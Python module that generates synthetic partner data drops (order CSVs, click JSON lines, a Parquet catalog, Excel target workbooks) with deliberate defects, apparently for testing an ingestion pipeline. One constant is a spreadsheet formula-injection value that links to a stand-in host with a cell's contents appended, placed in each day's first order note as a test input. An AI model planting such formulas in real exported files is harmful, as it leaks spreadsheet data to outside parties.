"""Dropped files: a marketplace's orders as CSV, an affiliate's clicks as JSON lines, a supplier's price list as Parquet, and the
stores' sales targets as workbooks, with a bad file of every kind among the good ones.

The rows of `drops.files` are the files as they are uploaded, in this order.
"""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import TYPE_CHECKING, Any, NamedTuple

import pyarrow as pa
import pyarrow.parquet as pq

from local.world.dice import dice
from local.world.journey import HOUSEHOLDS
from local.world.part import Happened, Step
from local.world.tables import copy_rows
from local.world.truth import Connection, Defect, Kind, now

if TYPE_CHECKING:
    import openpyxl

SOURCE = "s3_drops"
HISTORY_DAYS = 14

DDL = """
create schema drops;
create table drops.files (
    number bigint generated always as identity primary key, step int not null, since date not null, key text not null,
    body bytea not null
);
"""
ORDER_FIELDS = ("order_id", "ordered_at", "sku", "quantity", "unit_price", "currency", "customer", "note")
TARGET_FIELDS = ("month", "store_id", "target_revenue", "currency", "revision")
_NAMES = ("Zoë Müller", "Łukasz Nowak", "O'Brien; Sons", "Ana María", "Søren", 'The "Best" Shop')
# Text that a spreadsheet would run: it must arrive as the text that it is.
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


class File(NamedTuple):
    """One file as a partner uploads it."""

    key: str
    body: bytes


class Drops:
    """The part of the world that comes as files."""

    DDL = DDL
    SCHEMA = "drops"

    def happen(self, connection: Connection, step: Step) -> Happened:
        """Writes the files of one step."""
        days = min((step.clock - step.since).days, HISTORY_DAYS)
        changes: Counter[tuple[str, Kind]] = Counter()
        defects: list[Defect] = []
        files: list[File] = []
        for day in (step.clock - timedelta(days=days - number) for number in range(days)):
            files.append(_orders(step, day, changes, defects))
            files.append(_clicks(step, day, changes, defects))
        files.append(_catalog(step, changes))
        files += _targets(step, changes)
        bad = list(_bad(step))
        files += [file for file, _ in bad]
        defects += [defect for _, defect in bad]
        files += _unfinished(step)
        rows = ((step.number, step.since, *file) for file in files)
        copy_rows(connection, "drops.files (step, since, key, body)", rows)
        return Happened(defects, changes)


def _size(step: Step, whole: int) -> int:
    return max(3, whole * step.households // HOUSEHOLDS)


def _orders(step: Step, day: date, changes: Counter[tuple[str, Kind]], defects: list[Defect]) -> File:
    rng = dice(step.world_seed, "partner orders", day)
    rows: list[Sequence[Any]] = []
    for number in range(_size(step, 40)):
        price = Decimal(rng.randint(99, 4999)).scaleb(-2)
        at = now(day) + timedelta(seconds=rng.randrange(86_400))
        note = FORMULA if number == 0 else rng.choice(["", "", "gift", "two\nlines", "semi;colon"])
        sku, order_id = f"SKU-{rng.randint(1, 400):05d}", f"M{day:%Y%m%d}-{number:04d}"
        rows.append((order_id, _iso(at), sku, rng.randint(1, 6), price, "EUR", rng.choice(_NAMES), note))
    changes[f"{SOURCE}.partner_orders", "insert"] += len(rows)
    key = f"{SOURCE}/partner_orders/orders-{day:%Y%m%d}.csv"
    negative = f"M{day:%Y%m%d}-NEG"
    rows.append((negative, _iso(now(day)), "SKU-00001", -1, "9.99", "EUR", _NAMES[0], ""))
    defects.append(Defect(f"{SOURCE}.partner_orders", negative, "quantity_positive"))
    # Cut short: two cells are missing.
    rows.append((f"M{day:%Y%m%d}-CUT", _iso(now(day)), "SKU-00001", 1, "9.99", "EUR"))
    defects.append(Defect(f"{SOURCE}.partner_orders", f"{key}#{len(rows)}", "bad_row"))
    return File(key, _csv(ORDER_FIELDS, rows).encode("utf-8-sig"))


def _clicks(step: Step, day: date, changes: Counter[tuple[str, Kind]], defects: list[Defect]) -> File:
    rng = dice(step.world_seed, "partner clicks", day)
    lines = []
    for number in range(_size(step, 120)):
        at = now(day) + timedelta(seconds=rng.randrange(86_400))
        click = {
            "click_id": f"C{day:%Y%m%d}-{number:05d}",
            "clicked_at": _iso(at),
            "campaign": rng.choice(["spring", "été", "fall"]),
            "cost": str(Decimal(rng.randint(1, 250)).scaleb(-2)),
            "currency": "USD",
            "landing": {"path": rng.choice(["/", "/offers"]), "referrer": rng.choice(["news", "mail", None])},
        }
        lines.append(json.dumps(click, ensure_ascii=False))
    changes[f"{SOURCE}.partner_clicks", "insert"] += len(lines)
    key = f"{SOURCE}/partner_clicks/{day:%Y/%m/%d}/clicks.jsonl"
    lines.append('{"click_id": "cut off')
    defects.append(Defect(f"{SOURCE}.partner_clicks", f"{key}#{len(lines)}", "not_json"))
    return File(key, "\n".join(lines).encode())


def _catalog(step: Step, changes: Counter[tuple[str, Kind]]) -> File:
    """The whole price list at first, then what has changed: prices of some articles, and a few that are new."""
    rng = dice(step.world_seed, "partner catalog", step.number)
    known = _size(step, 400)
    fresh = _size(step, 10)
    if step.number == 0:
        numbers = list(range(known))
    else:
        numbers = rng.sample(range(known), min(known, _size(step, 40)))
        first = known + fresh * (step.number - 1)
        numbers += range(first, first + fresh)
        changes[f"{SOURCE}.partner_catalog", "update"] += len(numbers) - fresh
    changes[f"{SOURCE}.partner_catalog", "insert"] += known if step.number == 0 else fresh
    table = pa.table(
        {
            "sku": [f"SKU-{number:05d}" for number in numbers],
            "name": [f"Article {number} · Größe {number % 7}" for number in numbers],
            "list_price": pa.array([Decimal(rng.randint(99, 9999)).scaleb(-2) for _ in numbers], pa.decimal128(12, 2)),
            "updated_at": pa.array([now(step.clock) - timedelta(hours=1)] * len(numbers), pa.timestamp("us", "UTC")),
            "tags": [["new"] if number % 5 == 0 else [] for number in numbers],
        }
    )
    out = io.BytesIO()
    pq.write_table(table, out)
    return File(f"{SOURCE}/partner_catalog/catalog-{step.number:04d}.parquet", out.getvalue())


def _targets(step: Step, changes: Counter[tuple[str, Kind]]) -> Iterator[File]:
    """Targets of the current month for every store; each step restates them under a higher revision."""
    rng = dice(step.world_seed, "partner targets", step.number)
    month = (step.clock - timedelta(days=1)).replace(day=1)
    # Every command of the CLI would wait for it.
    import openpyxl  # noqa: PLC0415

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None  # noqa: S101 - a new workbook has one
    sheet.title = "Targets"
    sheet.append(TARGET_FIELDS)
    for store in range(300, 320):
        sheet.append((month, store, float(Decimal(rng.randint(100_000, 900_000)).scaleb(-2)), "USD", step.number))
    book.create_sheet("Notes").append(["Not data."])
    yield File(f"{SOURCE}/partner_targets/targets-{month:%Y-%m}-r{step.number}.xlsx", _workbook(book, step.clock))
    before = (step.since - timedelta(days=1)).replace(day=1)
    kind: Kind = "insert" if step.number == 0 or before != month else "update"
    changes[f"{SOURCE}.partner_targets", kind] += 20


def _workbook(book: openpyxl.Workbook, clock: date) -> bytes:
    book.properties.created = book.properties.modified = datetime(clock.year, clock.month, clock.day)  # noqa: DTZ001 - Excel knows no zones
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _bad(step: Step) -> Iterator[tuple[File, Defect]]:
    """Files that cannot be taken, by the reason that each must have in quarantine."""
    number = step.number
    row = (f"BAD-{number}", _iso(now(step.clock)), "SKU-00001", 1, "1.00", "EUR", "Zoë", "")
    text = _csv(ORDER_FIELDS, [row])
    orders, clicks = f"{SOURCE}/partner_orders", f"{SOURCE}/partner_clicks"
    catalog, targets = f"{SOURCE}/partner_catalog", f"{SOURCE}/partner_targets"
    unclosed = text + '"never closed;1\n'
    yield _bad_file(f"{orders}/latin-{number}.csv", text.encode("latin-1"), "bad_encoding")
    yield _bad_file(f"{orders}/header-{number}.csv", text.replace("order_id", "id", 1).encode(), "bad_header")
    yield _bad_file(f"{orders}/comma-{number}.csv", text.replace(";", ",").encode(), "bad_header")
    yield _bad_file(f"{orders}/quote-{number}.csv", unclosed.encode(), "unreadable_file")
    yield _bad_file(f"{clicks}/utf16-{number}.jsonl", '{"click_id": "x"}'.encode("utf-16"), "bad_encoding")
    yield _bad_file(f"{catalog}/cut-{number}.parquet", b"PAR1 and then nothing", "unreadable_file")
    yield _bad_file(f"{targets}/text-{number}.xlsx", b"month,store_id\n", "unreadable_file")


def _bad_file(key: str, body: bytes, reason: str) -> tuple[File, Defect]:
    stream = key.split("/")[1]
    return File(key, body), Defect(f"{SOURCE}.{stream}", f"{key}#", reason)


def _unfinished(step: Step) -> Iterator[File]:
    """Files that are no data yet, which nobody must take."""
    yield File(f"{SOURCE}/partner_orders/upload-{step.number}.csv_tmp", b"half of")
    yield File(f"{SOURCE}/partner_orders/_SUCCESS-{step.number}", b"done")
    yield File(f"{SOURCE}/partner_clicks/empty-{step.number}.jsonl", b"")


def _csv(header: Sequence[str], rows: Sequence[Sequence[Any]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="seconds").replace("+00:00", "Z")


DROPS = Drops()
